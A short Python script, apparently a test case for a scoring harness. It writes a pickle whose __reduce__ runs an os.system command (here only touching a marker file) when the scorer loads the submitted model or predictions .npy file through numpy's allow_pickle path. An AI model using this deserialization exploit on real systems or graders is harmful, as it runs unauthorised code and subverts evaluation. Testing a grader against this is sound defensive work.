"""Saves a pickled object array whose loading runs a command in the scorer.

Idea: pickle's `__reduce__`; numpy.load with allow_pickle (CVE-2019-6446).
"""

import os
import pickle

import kit


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {kit.known['drop']}/pickle",)


if kit.PHASE == "train":
    kit.honest()
    (kit.OUT / "model.pkl").write_bytes(pickle.dumps(Bomb()))
else:
    rows = len(kit.predict())
    content = kit.header((rows, 3), "|O") + pickle.dumps(Bomb())
    (kit.OUT / "predictions.npy").write_bytes(content)
